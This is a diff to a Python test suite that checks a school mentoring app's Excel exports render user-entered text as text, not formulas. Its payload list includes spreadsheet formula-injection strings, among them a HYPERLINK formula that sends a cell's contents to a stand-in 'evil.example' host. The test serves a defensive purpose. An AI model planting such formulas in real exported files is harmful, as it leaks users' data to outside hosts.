@@ -18,6 +18,8 @@ from nastavnik.web import xlsx
 from tests.factories import make_consent, make_person
 
 PAYLOADS = ("=1+2", "+7 913 000-00-00", "-3+4", "@SUM(A1)", '=HYPERLINK("http://evil.example/"&B6,"x")')
+# What would show that a payload became a formula; the app's own formulas (report totals) carry none.
+MARKS = ("1+2", "913", "3+4", "SUM(A1)", "evil")
 
 
 @pytest.fixture
@@ -48,15 +50,37 @@ def hostile(app, world):
     draft.sections[0].items[0].responsible = PAYLOADS[2]
     roadmap = create_roadmap(draft, world.school, year)
     db.session.commit()
-    return {"roadmap_id": roadmap.id}
+    return {"roadmap_id": roadmap.id, "mentor": mentor, "mentee": mentee}
+
+
+def _agreement(world, mentor, mentee) -> None:
+    """A running ст. 351.8 agreement between two teachers, for the pay register."""
+    from nastavnik.agreements.models import MentorAgreement
+    from nastavnik.pairs.models import Pair, PairMember
+
+    day = date.today()
+    pair = Pair(org_id=world.school.id, kind_code="teacher_teacher", academic_year=2025, status="active")
+    pair.members = [PairMember(person_id=mentor.id, role="mentor"), PairMember(person_id=mentee.id, role="mentee")]
+    db.session.add(pair)
+    db.session.flush()
+    db.session.add(MentorAgreement(
+        org_id=world.school.id, pair_id=pair.id, person_id=mentor.id, number=PAYLOADS[3], signed_on=day,
+        content=PAYLOADS[0], work_form=PAYLOADS[2], starts_on=day.replace(day=1), ends_on=day.replace(day=28),
+        pay_kind="fixed", pay_value=1000, pay_terms=PAYLOADS[4], local_act=PAYLOADS[1],
+    ))
+    db.session.commit()
 
 
 def _exports(app) -> list:
     return sorted((rule for rule in app.url_map.iter_rules() if ".xlsx" in rule.rule), key=lambda r: r.rule)
 
 
-def test_every_export_writes_user_text_as_text(app, hostile, as_user):
+def test_every_export_writes_user_text_as_text(app, hostile, world, as_user):
+    from tests.reports.test_reports import run_report
+
     client = as_user("curator")
+    _agreement(world, hostile["mentor"], hostile["mentee"])
+    hostile = {**hostile, "run_id": run_report(client, world.school, as_of=f"{date.today():%d.%m.%Y}").id}
     exports = _exports(app)
     assert {r.endpoint for r in exports} >= {
         "participants.export", "banks.export_mentees", "banks.export_mentors", "roadmaps.export_xlsx"
@@ -68,13 +92,16 @@ def test_every_export_writes_user_text_as_text(app, hostile, as_user):
         for name in rule.arguments:
             url = url.replace(f"<int:{name}>", str(hostile[name])).replace(f"<{name}>", str(hostile[name]))
         response = client.get(url)
+        if rule.endpoint == "reports.run_blank" and response.status_code == 404:
+            continue  # only a format that ships an official blank has one (tests/reports/test_regional_plugin.py)
         assert response.status_code == 200, url
         book = openpyxl.load_workbook(io.BytesIO(response.data))
         texts = set()
         for sheet in book.worksheets:
             for row in sheet.iter_rows():
                 for cell in row:
-                    assert cell.data_type != "f", f"{url}: {cell.coordinate} is a formula: {cell.value!r}"
+                    formula = cell.data_type == "f" and any(mark in str(cell.value) for mark in MARKS)
+                    assert not formula, f"{url}: {cell.coordinate} is a formula: {cell.value!r}"
                     assert cell.hyperlink is None or "evil" not in (cell.hyperlink.target or ""), url
                     if isinstance(cell.value, str):
                         texts.add(cell.value)
